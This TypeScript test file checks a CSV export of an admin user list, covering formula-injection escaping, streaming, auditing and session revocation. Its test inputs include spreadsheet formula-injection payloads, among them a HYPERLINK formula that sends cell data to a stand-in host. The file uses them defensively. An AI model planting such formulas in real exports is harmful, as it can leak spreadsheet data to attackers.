import { env } from 'cloudflare:workers'
import { beforeAll, describe, expect, it } from 'vitest'
import { csvStream } from '../../../src/lib/csv-stream.ts'
import type { CsvReader } from '../../../src/lib/csv-stream.ts'
import { failBefore } from '../../support/failing-database.ts'
import { insertManyPeople } from '../../support/many-people.ts'
import { changeStaff, createStaff } from '../../support/staff.ts'
import type { TestStaff } from '../../support/staff.ts'
import { createTestApp } from '../../support/test-app.ts'
import type { TestApp } from '../../support/test-app.ts'

const PEOPLE = 10_250
const test = createTestApp()
let superuser: TestStaff

beforeAll(async () => {
  await insertManyPeople(PEOPLE)
  superuser = await createStaff('superuser')
})

/** An RFC 4180 parser, independent of the writer. */
function readCsv(text: string): string[][] {
  const rows: string[][] = [[]]
  const cells = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|$)/y
  while (cells.lastIndex < text.length) {
    const [, quoted, plain = '', end] = cells.exec(text) ?? []
    if (end === undefined) throw new Error('no CSV')
    rows.at(-1)!.push(quoted === undefined ? plain : quoted.replaceAll('""', '"'))
    if (end === '\r\n') rows.push([])
  }
  return rows.slice(0, -1)
}

const decode = (bytes: ArrayBuffer) => new TextDecoder('utf-8', { ignoreBOM: true, fatal: true }).decode(bytes)

async function download(query = '', { app = test, language = 'en' }: { app?: TestApp; language?: string } = {}) {
  const headers = { 'Accept-Language': language }
  return app.request('GET', `/api/v1/admin/users.csv${query}`, { token: superuser.token, headers })
}

const fileFor = async (reader: CsvReader, values: unknown[]) => {
  const pages = async function* () {
    yield values
  }
  const stream = await csvStream([{ title: 'A', value: (value: unknown) => value as string }], pages(), reader)
  return decode(await new Response(stream).arrayBuffer())
}

describe('a CSV file', () => {
  it.each([
    ['=1+1', `"'=1+1"`],
    ['+79174445566', '"=""+79174445566"""'],
    ['002294', '"=""002294"""'],
    ['0E5789', '"=""0E5789"""'],
    ['K49FJ5', '"K49FJ5"'],
    ['+1-2', `"'+1-2"`],
    ['1;=2', `"1;'=2"`],
    ['-2', `"'-2"`],
    ['@SUM(A1)', `"'@SUM(A1)"`],
    ['\t=1', `"'\t'=1"`],
    ['Mozilla\t=1', `"Mozilla\t'=1"`],
    ['\r=1', `"'\r'=1"`],
    ['\n=1', `"'\n'=1"`],
    ['  =1', `"'  =1"`],
    ['＝1+1', `"'＝1+1"`],
    // Not in the first column: programs that split at semicolons would break the cell.
    ['a;=1', `"a;'=1"`],
    ['a; "=1;-2', `"a;' ""=1;'-2"`],
    ['a;＝1', `"a;'＝1"`],
    ['a; b-c', '"a; b-c"'],
    ['say "=1"', '"say ""=1"""'],
    ['a,b', '"a,b"'],
    ['Ёжик 🦔', '"Ёжик 🦔"'],
    [null, ''],
    [-5, '-5'],
    [true, 'true'],
  ])('for a spreadsheet has %j as %s', async (value, cell) => {
    expect(await fileFor('spreadsheet', [value])).toBe(`\uFEFF"A"\r\n${cell}\r\n`)
  })

  it('for a program has every value as it is', async () => {
    const values = ['=1+1', '+79174445566', '002294', '0E5789', 'a;=1', 'say "=1"', 'two\nlines', '']
    const text = await fileFor('program', values)
    expect(text.startsWith('"A"\r\n')).toBe(true)
    expect(readCsv(text).flat()).toEqual(['A', ...values])
  })

  it('is made 100 rows at a time, and others have their turn in between', async () => {
    let [made, turns] = [0, 0]
    const over = new AbortController()
    const rows = Array.from({ length: 1000 }, (_, i) => i)
      .values()
      .map((row) => {
        made += 1
        return row
      })
    const pages = async function* () {
      yield rows
    }
    const others = (async () => {
      for (; !over.signal.aborted; turns += 1) await new Promise((resolve) => setTimeout(resolve))
    })()
    const stream = await csvStream([{ title: 'A', value: (value: number) => value }], pages(), 'program')
    const reader = stream.getReader()
    const ahead: number[] = []
    for (let sent = 100; !(await reader.read()).done; sent += 100) ahead.push(made - sent)
    over.abort()
    await others
    expect(ahead).toHaveLength(10)
    expect(Math.max(...ahead)).toBeLessThanOrEqual(1)
    expect(turns).toBeGreaterThanOrEqual(9)
  })

  it('skips empty pages and stops the source when the reader stops', async () => {
    let [read, ended] = [0, false]
    const pages = async function* () {
      try {
        for (;;) {
          read += 1
          yield read % 2 === 0 ? [read] : []
        }
      } finally {
        ended = true
      }
    }
    const stream = await csvStream([{ title: 'A', value: (value: number) => value }], pages(), 'spreadsheet')
    const reader = stream.getReader()
    const chunks = [await reader.read(), await reader.read(), await reader.read()]
    expect(chunks.map(({ value }) => new TextDecoder().decode(value))).toEqual(['"A"\r\n', '2\r\n', '4\r\n'])
    // At most one page ahead of the reader: the list is never held in memory.
    expect(read).toBe(4)
    await reader.cancel()
    expect(ended).toBe(true)
  })
})

describe('GET /admin/users.csv', () => {
  it('contains everyone in the list once', async () => {
    const response = await download()
    expect(response.headers.get('content-type')).toMatch(/^text\/csv; charset=utf-8/)
    expect(response.headers.get('content-disposition')).toBe('attachment; filename="people.csv"')
    expect(response.headers.get('cache-control')).toBe('no-store')
    const text = decode(await response.arrayBuffer())
    expect(text.startsWith('\uFEFF"Id","Phone","E-mail"')).toBe(true)
    const [, ...rows] = readCsv(text.slice(1))
    const { results } = await env.DB.prepare(
      'SELECT id, phone, country FROM users WHERE deleted_at IS NULL ORDER BY id DESC',
    ).all<{ id: number; phone: string | null; country: string | null }>()
    expect(rows.length).toBeGreaterThan(10_000)
    expect(rows.map(([id, phone, , , , , , , , country]) => [id, phone, country])).toEqual(
      results.map(({ id, phone, country }) => [String(id), phone === null ? '' : `="${phone}"`, country ?? '']),
    )
  })

  it('is for a program if it asks, and never for anything else', async () => {
    const [, ...rows] = readCsv(decode(await (await download('?for=program&limit=1')).arrayBuffer()))
    expect(
      rows
        .map(([, phone]) => phone)
        .filter(Boolean)
        .every((phone) => /^\+\d+$/.test(phone!)),
    ).toBe(true)
    expect(rows.length).toBeGreaterThan(10_000)
    expect((await download('?for=excel')).status).toBe(400)
  })

  it('keeps filter and order, and has translated headings', async () => {
    const response = await download('?country=DE&active=false&ordering=oldest', { language: 'ru' })
    const [heading, ...rows] = readCsv(decode(await response.arrayBuffer()).slice(1))
    expect(heading).toEqual(expect.arrayContaining(['Телефон', 'Страна', 'Причина блокировки']))
    const { results } = await env.DB.prepare(
      `SELECT id FROM users WHERE country = 'DE' AND NOT is_active AND deleted_at IS NULL ORDER BY id`,
    ).all<{ id: number }>()
    expect(rows.map(([id]) => Number(id))).toEqual(results.map(({ id }) => id))
  })

  it('escapes names that are formulas', async () => {
    const name = '=HYPERLINK("http://x.example?"&A1,"ok")'
    await env.DB.prepare('UPDATE users SET first_name = ?, first_name_folded = NULL WHERE id = 2').bind(name).run()
    const [, row] = readCsv(decode(await (await download('?search=HYPERLINK')).arrayBuffer()).slice(1))
    expect(row?.[3]).toBe(`'${name}`)
  })

  it('is audited without the search text', async () => {
    await (await download('?search=79175000017&country=RU')).arrayBuffer()
    const event = await env.DB.prepare(
      `SELECT * FROM audit_events WHERE action = 'list_exported' ORDER BY id DESC LIMIT 1`,
    ).first()
    expect(event).toMatchObject({ actor: 'staff', actor_id: superuser.id, subject_id: null, outcome: 'ok' })
    expect(JSON.parse(String(event?.['details']))).toEqual({ list: 'people', filter: { search: true, country: 'RU' } })
  })

  it('reads the database at the speed of its reader, 1,200 people at a time, and sends them 100 at a time', async () => {
    test.d1.reset()
    const response = await download()
    const reader = response.body!.getReader()
    const [trips, lines]: [number[], number[]] = [[], []]
    for (let i = 0; i < 25; i += 1) {
      const { value } = await reader.read()
      trips.push(test.d1.counts.trips)
      lines.push(new TextDecoder().decode(value).split('\r\n').length - 1)
    }
    // Authentication, the audit event and the first page; then one page after another. A million people are 834.
    const pages = [3, 4].flatMap((trip) => Array.from({ length: 12 }, () => trip))
    expect(trips).toEqual([...pages, 5])
    expect(lines).toEqual([101, ...Array.from({ length: 24 }, () => 100)])
    await reader.cancel()
    expect(test.d1.counts.trips).toBe(5)
  })

  it('breaks off when the database fails instead of ending as if complete', async () => {
    const { openDatabase } = failBefore({ from: 7 })
    const response = await download('', { app: createTestApp({ ports: { openDatabase } }) })
    expect(response.status).toBe(200)
    let bytes = 0
    const readAll = async () => {
      for await (const chunk of response.body as unknown as AsyncIterable<Uint8Array>) bytes += chunk.length
    }
    await expect(readAll()).rejects.toMatchObject({ code: 'storage_unavailable' })
    expect(bytes).toBeGreaterThan(10_000)
  })

  const endSession = async (id: number) =>
    env.DB.prepare('UPDATE staff_sessions SET ended_at = 1 WHERE staff_id = ?').bind(id).run()

  it.each([
    ['blocked', (id: number) => changeStaff(id, 'blocked_at = 1')],
    ['demoted', (id: number) => changeStaff(id, "role = 'analyst'")],
    ['signed out', endSession],
  ])('breaks off at the next page once the staff member is %s', async (_, dismiss) => {
    const { id, token } = await createStaff('superuser')
    const reader = (await test.request('GET', '/api/v1/admin/users.csv', { token })).body!.getReader()
    await reader.read()
    await dismiss(id)
    // What has been read already is sent.
    for (let piece = 1; piece < 12; piece += 1) await reader.read()
    await expect(reader.read()).rejects.toMatchObject({ code: 'token_not_valid' })
  })

  it('goes on when other accounts and the profile of the staff member change', async () => {
    const { id, token } = await createStaff('superuser')
    const other = await createStaff('superuser')
    const response = await test.request('GET', '/api/v1/admin/users.csv', { token })
    await changeStaff(id, "name = 'Renamed'")
    await changeStaff(other.id, 'blocked_at = 1')
    await endSession(other.id)
    expect(readCsv(decode(await response.arrayBuffer()).slice(1)).length).toBeGreaterThan(10_000)
  })
})
